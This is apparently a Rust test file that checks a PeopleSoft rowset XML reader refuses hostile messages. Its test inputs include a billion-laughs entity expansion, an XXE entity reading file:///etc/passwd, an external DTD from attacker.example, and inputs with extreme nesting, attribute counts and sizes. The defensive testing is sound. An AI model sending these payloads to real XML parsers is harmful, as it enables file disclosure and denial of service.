//! Messages that are meant to hurt.

use peoplesoft_client::ErrorKind;
use peoplesoft_client::rowset::{ReadOptions, Reader};

fn wrap(inside: &str) -> String {
    format!("<A><FieldTypes/><MsgData><Transaction>{inside}</Transaction></MsgData></A>")
}

fn refused(message: &str) -> (ErrorKind, String) {
    refused_with(message, ReadOptions::default())
}

fn refused_with(message: &str, options: ReadOptions) -> (ErrorKind, String) {
    let mut slice = Reader::from_slice(message.as_bytes(), options.clone());
    let mut read = Reader::new(message.as_bytes(), options);
    let error = loop {
        match slice.next_transaction() {
            Ok(Some(_)) => {}
            Ok(None) => panic!("read"),
            Err(error) => break error,
        }
    };
    let again = loop {
        match read.next_transaction() {
            Ok(Some(_)) => {}
            Ok(None) => panic!("read"),
            Err(error) => break error,
        }
    };
    assert_eq!(error.to_string(), again.to_string());
    (error.kind(), error.to_string())
}

#[test]
fn a_document_type_is_refused_before_anything_is_defined() {
    let lol = "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]>";
    let file = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
    for dtd in [
        lol,
        file,
        "<!DOCTYPE a SYSTEM 'http://attacker.example/x.dtd'>",
    ] {
        let (kind, text) = refused(&format!("<?xml version=\"1.0\"?>{dtd}{}", wrap("&lol2;")));
        assert_eq!(kind, ErrorKind::Decode);
        assert!(text.contains("a document type declaration"), "{text}");
    }
    let (_, text) = refused(&wrap("<R class=\"R\"><F>&lol2;</F></R>"));
    insta::assert_snapshot!(
        text,
        @"the message is not readable at byte 54, in A/MsgData/Transaction/R/F: found a named entity, expected one of the five that XML defines, or a number"
    );
}

#[test]
fn depth_is_bounded() {
    let (kind, text) = refused(&wrap(&"<R class=\"R\">".repeat(200_000)));
    assert_eq!(kind, ErrorKind::Decode);
    assert!(text.contains("too deep"), "{text}");
    let unknown = format!("<A><Other>{}", "<x>".repeat(200_000));
    assert!(refused(&unknown).1.contains("too deep"));
}

#[test]
fn attributes_are_bounded() {
    let many: String = (0..80_000).map(|n| format!(" a{n}='1'")).collect();
    let (_, text) = refused(&wrap(&format!("<R class=\"R\"{many}/>")));
    assert!(
        text.contains("too many attributes") || text.contains("limit"),
        "{text}"
    );
    let namespaces: String = (0..1_000).map(|n| format!(" xmlns:a{n}='u'")).collect();
    let (_, text) = refused(&wrap(&format!("<R class=\"R\"{namespaces}/>")));
    assert!(text.contains("too many attributes"), "{text}");
}

#[test]
fn sizes_are_bounded() {
    let long = "x".repeat(2 << 20);
    for message in [
        wrap(&format!("<R class=\"R\"><F>{long}</F></R>")),
        wrap(&format!("<R class=\"R\"><{long}/></R>")),
        wrap(&format!("<R class=\"R\" a=\"{long}\"/>")),
        wrap(&format!("<!-- {long} -->")),
        wrap(&format!("<R class=\"R\"><F><![CDATA[{long}]]></F></R>")),
    ] {
        assert_eq!(refused(&message).0, ErrorKind::TooLarge);
    }
    let mut options = ReadOptions::default();
    options.max_transaction_bytes = 10_000;
    let rows = wrap(&"<R class=\"R\"><F>1</F></R>".repeat(1_000));
    let (kind, text) = refused_with(&rows, options);
    assert_eq!(kind, ErrorKind::TooLarge);
    assert!(
        text.contains("a transaction is beyond the limit of 10000"),
        "{text}"
    );
}

#[test]
fn a_large_message_of_small_transactions_is_read() {
    let one = "<Transaction><R class=\"R\"><F>1</F></R></Transaction>";
    let message = format!(
        "<A><FieldTypes/><MsgData>{}</MsgData></A>",
        one.repeat(5_000)
    );
    let mut options = ReadOptions::default();
    options.max_transaction_bytes = 200;
    let mut reader = Reader::from_slice(message.as_bytes(), options);
    let mut count = 0;
    while reader.next_transaction().unwrap().is_some() {
        count += 1;
    }
    assert_eq!(count, 5_000);
}

#[test]
fn names_are_bounded() {
    let names: String = (0..30_000).map(|n| format!("<F{n}/>")).collect();
    let (kind, _) = refused(&wrap(&format!("<R class=\"R\">{names}</R>")));
    assert_eq!(kind, ErrorKind::TooLarge);
}

#[test]
fn what_is_no_message_is_named() {
    for (text, part) in [
        ("", "found nothing, expected a rowset message"),
        ("   ", "found nothing"),
        ("{\"a\":1}", "text outside of the message"),
        ("<A></B>", "found `</B>`, expected `</A>`"),
        ("<A/><B/>", "a second message"),
        ("<A/>x", "text outside"),
        ("<A", "the end of the text within a tag"),
        ("<A>", "the end, expected a message that is whole"),
        ("</A>", "an element that it ends"),
        ("<1/>", "the name `1`"),
        ("< A/>", "an attribute that is not"),
        (
            "<?xml version='1.0' encoding='ISO-8859-1'?><A/>",
            "the encoding `ISO-8859-1`, expected UTF-8",
        ),
    ] {
        let (kind, message) = refused(text);
        assert_eq!(kind, ErrorKind::Decode, "{text}");
        assert!(message.contains(part), "{message}");
    }
    let latin = b"<A><FieldTypes/><MsgData><Transaction><R class=\"R\"><F>caf\xe9</F></R></Transaction></MsgData></A>";
    let mut reader = Reader::from_slice(latin, ReadOptions::default());
    let error = reader.next_transaction().unwrap_err();
    assert!(error.to_string().contains("no UTF-8"), "{error}");
}
